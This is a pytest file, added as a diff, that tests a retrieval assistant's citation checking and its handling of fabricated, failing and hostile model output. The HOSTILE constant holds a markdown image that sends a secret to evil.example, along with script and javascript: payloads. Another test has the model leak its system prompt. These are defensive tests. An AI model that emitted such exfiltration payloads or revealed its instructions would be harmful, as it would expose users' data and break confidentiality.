@@ -1,0 +1,264 @@
+"""Good, bad and hostile models, played over real HTTP: nothing invented is ever marked as supported."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from assistant import Assistant, prompts
+from assistant.chat import open_chat_model
+from assistant.corpus import Corpus
+from assistant.settings import AnsweringSettings, ChatSettings, Settings
+from assistant.types import Answer, Reason
+from assistant.ui import render
+from tests.fakes import WordEmbeddings, make_article
+from tests.scripted_server import BreakOff, Finish, Raw, ScriptedServer, Silence, Status, Step, scripted
+
+MEETING = make_article(
+    "Ding Xuexiang met Shehbaz Sharif in Baku on Wednesday. They spoke of security on the corridor.",
+    title="Talks in Baku",
+)
+ATTACK = make_article(
+    "A bomb killed two engineers near the airport of Karachi. The army blamed separatists for the attack.",
+    title="Attack in Karachi",
+)
+QUESTION = "Who met Shehbaz Sharif in Baku?"
+GOOD = "Ding Xuexiang met Shehbaz Sharif in Baku on Wednesday [1]."
+QUOTED = "Ding Xuexiang met Shehbaz Sharif in Baku on Wednesday. [1]"
+
+
+@pytest.fixture(scope="module")
+def corpus(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corpus]:
+    folder = tmp_path_factory.mktemp("corpus")
+    with Assistant.open(settings=Settings(data_dir=folder), embedder=WordEmbeddings()) as assistant:
+        assistant.add([MEETING, ATTACK])
+        yield assistant.corpus
+
+
+def asked_of(server: ScriptedServer, corpus: Corpus, **chat: Any) -> Assistant:
+    """An assistant that answers as soon as it has a sentence, with the server's model."""
+    bounds = {"silence_seconds": 10, "total_seconds": 20, "retry_seconds": 0.01, "max_retries": 1}
+    chosen = ChatSettings(**{"model": "openai:scripted", "base_url": server.url, **bounds, **chat})
+    settings = Settings(answering=AnsweringSettings(min_score=0), chat=chosen)
+    return Assistant(corpus, settings, chat_model=open_chat_model(chosen))
+
+
+def answer_to(corpus: Corpus, *script: Step, **chat: Any) -> Answer:
+    with scripted(script) as server:
+        return asked_of(server, corpus, **chat).ask(QUESTION)
+
+
+def assert_supported_sentences_are_cited(answer: Answer) -> None:
+    markers = [citation.marker for citation in answer.citations]
+    assert markers == list(range(1, len(markers) + 1))
+    for citation in answer.citations:
+        assert citation.text == citation.article.text[citation.start : citation.end]
+    for sentence in answer.sentences:
+        assert sentence.is_supported == bool(sentence.markers) == (not sentence.reason)
+        assert set(sentence.markers) <= set(markers)
+
+
+def test_a_good_answer_is_cited_by_the_exact_sentence(corpus: Corpus):
+    answer = answer_to(corpus, *GOOD)  # a delta a character
+    assert answer.text == QUOTED
+    assert answer.mode == "chat"
+    assert [citation.text for citation in answer.citations] == [MEETING.text[:54]]
+    assert (answer.groundedness, answer.unresolved, answer.is_complete) == (1.0, (), True)
+    assert answer.generation
+    assert (answer.generation.model, answer.generation.failure) == ("openai:scripted", "")
+    assert 0 < answer.generation.tokens < answer.generation.window
+    assert_supported_sentences_are_cited(answer)
+
+
+def test_no_step_shows_half_a_marker_or_an_unchecked_sentence(corpus: Corpus):
+    text = f"{GOOD} They spoke of security on the corridor [1][2]. A bomb killed two engineers【2】."
+    with scripted(list(text)) as server:
+        assistant = asked_of(server, corpus)
+        steps = list(assistant.stream(QUESTION))
+    for step in steps:
+        assert "【" not in step.text
+        assert step.text.count("[") == step.text.count("]")
+        assert_supported_sentences_are_cited(step)
+    assert [len(sentence.markers) for sentence in steps[-1].sentences] == [1, 1, 1]
+
+
+@pytest.mark.parametrize(
+    ("invented", "reason"),
+    [
+        ("Ding Xuexiang met Shehbaz Sharif in Baku 17 times [1].", "“17”"),
+        ("Ding Xuexiang met Shehbaz Sharif in Baku on Friday [1].", "“Friday”"),
+        ("Ding Xuexiang met Narendra Modi in Baku on Wednesday [1].", "“Narendra”, “Modi”"),
+        ("The moon is made of cheese and turns slowly [1].", "not said like this"),
+        ("Paris is the capital of France.", "“Paris”, “France” are not in any passage"),
+    ],
+)
+def test_what_is_invented_is_greyed_with_the_reason(corpus: Corpus, invented: str, reason: str):
+    answer = answer_to(corpus, f"{GOOD} {invented}")
+    assert [sentence.is_supported for sentence in answer.sentences] == [True, False]
+    assert reason in answer.sentences[1].reason
+    assert answer.sentences[1].markers == ()
+    assert answer.groundedness == 0.5
+    page = render.transcript((answer,))
+    assert 'class="unsupported"' in page
+    assert answer.text in render.plain_text(answer)
+    assert_supported_sentences_are_cited(answer)
+
+
+def test_what_is_invented_is_removed_if_that_is_set(corpus: Corpus):
+    answer = answer_to(corpus, f"{GOOD} Sharif paid 300 dollars [1].", unsupported="removed")
+    assert answer.text == QUOTED
+    assert answer.generation
+    assert answer.generation.removed == 1
+
+
+def test_numbers_that_do_not_exist_are_removed_and_counted(corpus: Corpus):
+    answer = answer_to(corpus, "Ding Xuexiang met Shehbaz Sharif in Baku on Wednesday [1][9], [12-14].")
+    assert answer.text == QUOTED
+    assert answer.unresolved == ("9", "12-14")
+
+
+def test_a_sentence_without_a_marker_gets_one_if_a_passage_clearly_says_it(corpus: Corpus):
+    answer = answer_to(corpus, "Ding Xuexiang met Shehbaz Sharif in Baku on Wednesday.")
+    assert answer.text == QUOTED
+
+
+def test_a_wrong_marker_is_mended(corpus: Corpus):
+    answer = answer_to(corpus, "Ding Xuexiang met Shehbaz Sharif in Baku on Wednesday [2].")
+    assert answer.text == QUOTED
+    assert answer.citations[0].article == MEETING
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["Cows can fly to Mars in 1850 [1].", "I do not know.", "As an AI I like cheese [1]. So be it [2]."],
+)
+def test_an_answer_with_nothing_supported_is_an_abstention_without_references(corpus: Corpus, text: str):
+    answer = answer_to(corpus, text)
+    assert answer.abstention
+    assert answer.abstention.reason is Reason.NOT_SUPPORTED
+    assert (answer.text, answer.citations, answer.sentences) == ("", (), ())
+    assert "Cows" not in render.transcript((answer,))
+
+
+HOSTILE = (
+    f"{GOOD} ![x](http://evil.example/?q=secret) <img src=http://evil.example/a.png> "
+    "[click](javascript:alert(1)) <script>alert(1)</script> See http://evil.example/path for more."
+)
+
+
+def test_images_links_and_tags_are_text_without_effect(corpus: Corpus):
+    answer = answer_to(corpus, HOSTILE)
+    page = render.transcript((answer,))
+    for shown in (answer.text, page, render.plain_text(answer)):
+        for forbidden in ("evil.example", "<script", "<img", "javascript:", "href", "src="):
+            assert forbidden not in shown
+    assert answer.sentences[0].is_supported
+
+
+def test_leaked_instructions_are_never_shown(corpus: Corpus):
+    def leaking(request: dict[str, Any]) -> list[str]:
+        return [GOOD, " ", request["messages"][0]["content"], "\n", request["messages"][1]["content"]]
+
+    with scripted(leaking) as server:
+        assistant = asked_of(server, corpus)
+        answer = assistant.ask(QUESTION)
+        fence = server.requests[0]["messages"][1]["content"].split("FENCE-")[1][:16]
+    assert fence not in str(answer.to_dict())
+    told = prompts.load("answer", variables={"fence"}).text
+    for line in told.splitlines():
+        assert not line.strip("- ") or line.strip("- ") not in answer.text
+    assert_supported_sentences_are_cited(answer)
+
+
+@pytest.mark.parametrize(
+    ("script", "why"),
+    [
+        ((Status(500),), "HTTP 500"),
+        ((Status(401),), "refused the key"),
+        ((Silence(),), "said nothing for 0.5 s"),
+        ((GOOD, " They spoke", BreakOff()), "broke off"),
+        ((Raw(b"data: {garbage\n\n"),), "sent no answer"),
+        ((), "empty answer"),
+        (("...", " ?!"), "wrote no sentence"),
+        ((GOOD, Finish("content_filter")), "withheld"),
+    ],
+)
+def test_if_the_model_fails_the_quoted_answer_stands_in_and_says_why(
+    corpus: Corpus, script: tuple[Step, ...], why: str
+):
+    answer = answer_to(corpus, *script, silence_seconds=0.5 if script == (Silence(),) else 10)
+    assert answer.mode == "extractive"
+    assert answer.text.startswith(QUOTED)
+    assert (answer.sentences, answer.is_complete) == ((), True)
+    assert answer.generation
+    assert why in answer.generation.failure
+    for shown in (render.transcript((answer,)), render.plain_text(answer)):
+        assert "The chat model did not answer, so this is quoted instead" in shown
+        assert why in shown
+
+
+def test_a_refusal_for_a_moment_is_tried_again(corpus: Corpus):
+    with scripted([Status(429, headers={"retry-after": "0"})], [GOOD]) as server:
+        assistant = asked_of(server, corpus)
+        assert assistant.ask(QUESTION).text == QUOTED
+
+
+def test_an_answer_that_was_cut_off_says_so(corpus: Corpus):
+    answer = answer_to(corpus, GOOD, " They spoke of sec", Finish("length"))
+    assert "longest length" in render.plain_text(answer)
+
+
+def test_what_has_no_room_in_the_window_is_left_out_and_counted(tmp_path: Path):
+    long = [
+        make_article(f"Ding met Sharif in Baku, part {n}. " + "And so on. " * 40, title=f"Part {n}")
+        for n in range(9)
+    ]
+    with scripted(["Ding met Sharif in Baku [1]."]) as server:
+        with Assistant.open(tmp_path, embedder=WordEmbeddings()) as many:
+            many.add(long)
+            answer = asked_of(server, many.corpus, context_tokens=1400, max_output_tokens=400).ask(QUESTION)
+        sent = server.requests[0]["messages"][1]["content"]
+    assert answer.generation
+    assert answer.generation.left_out > 0
+    assert answer.generation.passages + answer.generation.left_out == len(answer.hits)
+    assert sent.count(" end of [") == answer.generation.passages
+    assert "had no room in its 1,400 tokens" in render.plain_text(answer)
+
+
+def test_without_room_for_a_passage_it_is_quoted(corpus: Corpus):
+    answer = answer_to(corpus, GOOD, context_tokens=1024, max_output_tokens=1000)
+    assert answer.generation
+    assert "no room" in answer.generation.failure
+    assert answer.text.startswith(QUOTED)
+
+
+def test_evidence_is_numbered_titled_dated_and_fenced_anew_each_time(corpus: Corpus):
+    with scripted([GOOD]) as server:
+        assistant = asked_of(server, corpus)
+        assistant.ask(QUESTION)
+        assistant.ask(QUESTION)
+        first, second = ([message["content"] for message in each["messages"]] for each in server.requests)
+    assert "passage [1] | title: Talks in Baku | source: Gazette | published: 2024-11-13\nDing" in first[1]
+    assert first[0] != second[0]
+    fence = first[0].split("FENCE-")[1][:16]
+    assert fence in first[1]
+    assert fence not in second[0] + second[1]
+
+
+def test_a_stop_ends_the_request(corpus: Corpus):
+    with scripted([GOOD, " They ", Silence(30)]) as server:
+        assistant = asked_of(server, corpus, silence_seconds=30)
+        steps = assistant.stream(QUESTION)
+        while not server.requests:
+            next(steps)
+        next(steps)
+        steps.close()  # type: ignore[attr-defined] # a generator
+        assert server.client_left.wait(5)
+
+
+def test_without_a_chat_model_nothing_is_generated(corpus: Corpus):
+    answer = Assistant(corpus, Settings(answering=AnsweringSettings(min_score=0))).ask(QUESTION)
+    assert (answer.mode, answer.generation, answer.sentences) == ("extractive", None, ())
